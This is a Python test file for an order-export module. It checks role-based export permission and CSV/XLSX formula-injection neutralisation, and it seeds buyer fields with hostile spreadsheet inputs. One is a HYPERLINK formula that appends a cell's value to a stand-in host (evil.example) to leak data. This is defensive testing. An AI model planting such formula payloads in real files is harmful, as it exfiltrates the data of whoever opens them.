"""Issue 13 items 1 and 3 at the query layer: only roles with `orders.export` get an export, and
what they get cannot run as a formula in a spreadsheet (CSV and XLSX), whatever the buyers typed;
one control character no longer breaks the XLSX; money stays numeric; the export streams."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from orders_core.db import unit_of_work
from orders_core.errors import NotAllowed
from orders_core.permissions import Actor
from queries.cells import safe_cell, safe_text
from queries.dashboards import finance
from queries.dashboards.export import to_csv, to_xlsx
from queries.dashboards.filters import DashboardFilters
from queries.export import csv_stream, export_csv, export_xlsx, xlsx_stream
from queries.grid import GridFilters
from tests.factories import make_event, make_order, make_tariff

EXPORTER = Actor("finance@example.org", "finance")
MARKETER = Actor("marketer@example.org", "marketer")
HOSTILE = {
    "buyer_first_name": '=HYPERLINK("http://evil.example/"&A1,"click")',
    "buyer_last_name": "@SUM(1)",
    "company_name": "+1+1",
    "utm_source": "-2+3",
    "utm_medium": "\tTAB",
    "utm_campaign": "Bell\x01Corp",
}


@pytest.fixture
def hostile(engine):
    with unit_of_work(engine) as session:
        event = make_event(session, name="=1+2")
        tariff = make_tariff(session, event, unit_price_ht=Decimal("100.00"))
        order = make_order(session, event, [(tariff, 1)], **HOSTILE)
        return order.number


def csv_rows(engine, separator=",") -> list[list[str]]:
    out = io.BytesIO()
    export_csv(engine, GridFilters(), out, principal=EXPORTER, separator=separator)
    return list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=separator))


def test_the_cell_rule_prefixes_formula_starts_and_drops_control_characters():
    assert [safe_text(v) for v in ("=A1", "+1", "-2+3", "@SUM(1)", "\tx", "\rx")] == [
        "'=A1",
        "'+1",
        "'-2+3",
        "'@SUM(1)",
        "'\tx",
        "'\rx",
    ]
    assert safe_text("Bell\x01Corp") == "BellCorp" and safe_text("\x02=1") == "'=1"
    assert safe_text("Ada Lovelace") == "Ada Lovelace" and safe_cell(Decimal("-2.00")) == Decimal("-2.00")


def test_a_marketer_is_refused_every_export_before_a_row_is_read(engine, hostile):
    for call in (
        lambda: csv_stream(engine, GridFilters(), principal=MARKETER),
        lambda: xlsx_stream(engine, GridFilters(), principal=MARKETER),
        lambda: export_csv(engine, GridFilters(), io.BytesIO(), principal=MARKETER),
        lambda: export_xlsx(engine, GridFilters(), io.BytesIO(), principal=MARKETER),
    ):
        with pytest.raises(NotAllowed, match="does not allow"):
            call()


def test_csv_cells_that_would_run_as_formulas_are_written_as_text(engine, hostile):
    header, *rows = csv_rows(engine)
    row = dict(zip(header, rows[0], strict=True))
    assert row["First name"] == '\'=HYPERLINK("http://evil.example/"&A1,"click")'
    assert row["Last name"] == "'@SUM(1)"
    assert row["Company"] == "'+1+1"
    assert row["UTM source"] == "'-2+3"
    assert row["UTM medium"] == "'\tTAB"
    assert row["UTM campaign"] == "BellCorp"
    assert row["Event"] == "'=1+2"
    assert row["Total incl. tax"] == "120.00" and row["Order number"] == str(hostile)


def test_xlsx_keeps_texts_as_texts_and_money_as_numbers(engine, hostile):
    out = io.BytesIO()
    assert export_xlsx(engine, GridFilters(), out, principal=EXPORTER) == 1
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    cells = {title: sheet.cell(row=2, column=index + 1) for index, title in enumerate(header)}
    assert cells["First name"].value == '\'=HYPERLINK("http://evil.example/"&A1,"click")'
    assert cells["Last name"].value == "'@SUM(1)"
    assert cells["Company"].value == "'+1+1"
    assert cells["UTM source"].value == "'-2+3"
    assert cells["UTM campaign"].value == "BellCorp"
    assert all(cells[title].data_type == "s" for title in ("First name", "Last name", "Company", "UTM source"))
    assert (cells["Total incl. tax"].value, cells["Total incl. tax"].data_type) == (120, "n")
    assert cells["Order number"].value == hostile and cells["Order number"].data_type == "n"


def test_the_csv_stream_yields_one_piece_per_chunk_of_rows(engine):
    with unit_of_work(engine) as session:
        event = make_event(session)
        tariff = make_tariff(session, event)
        for _ in range(5):
            make_order(session, event, [(tariff, 1)])
    pieces = list(csv_stream(engine, GridFilters(), principal=EXPORTER, separator=",", chunk_size=2))
    assert len(pieces) == 3  # 2 + 2 + 1 rows; the header and BOM ride with the first piece
    assert pieces[0].startswith(b"\xef\xbb\xbfOrder number,")
    assert [piece.count(b"\r\n") for piece in pieces] == [3, 2, 1]


def test_the_xlsx_stream_leaves_no_file_behind(engine, hostile, tmp_path, monkeypatch):
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    pieces = xlsx_stream(engine, GridFilters(), principal=EXPORTER)
    assert b"".join(pieces)[:2] == b"PK"
    assert list(scratch.iterdir()) == []


def test_the_accounting_exports_refuse_a_marketer(engine):
    filters = DashboardFilters()
    for export in (finance.payments_export, finance.orders_tax_export):
        with pytest.raises(NotAllowed):
            export(engine, filters, principal=MARKETER)


def test_accounting_files_neutralise_formulas_and_keep_money_numeric():
    frame = pd.DataFrame(
        {
            "reference": ['=HYPERLINK("http://evil.example")', "@SUM(1)", "Bell\x01Corp"],
            "amount": [Decimal("-2.50"), Decimal("10.00"), Decimal("3.00")],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows[1:] == [['\'=HYPERLINK("http://evil.example")', "-2.50"], ["'@SUM(1)", "10.00"], ["BellCorp", "3.00"]]
    sheet = load_workbook(io.BytesIO(to_xlsx(frame, "payments"))).active
    assert [(cell.value, cell.data_type) for cell in sheet["A"][1:]] == [
        ('\'=HYPERLINK("http://evil.example")', "s"),
        ("'@SUM(1)", "s"),
        ("BellCorp", "s"),
    ]
    assert [(cell.value, cell.data_type) for cell in sheet["B"][1:]] == [(-2.5, "n"), (10, "n"), (3, "n")]
